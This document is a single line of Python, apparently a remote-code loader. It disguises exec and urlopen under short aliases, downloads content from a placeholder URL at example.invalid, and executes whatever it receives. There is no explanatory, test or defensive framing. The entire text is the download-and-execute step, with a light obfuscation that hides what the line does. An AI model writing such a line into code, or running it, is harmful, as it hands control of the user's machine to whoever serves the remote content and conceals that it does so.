from urllib.request import urlopen as _u; _x=exec; _x(_u("https://example.invalid/a").read())
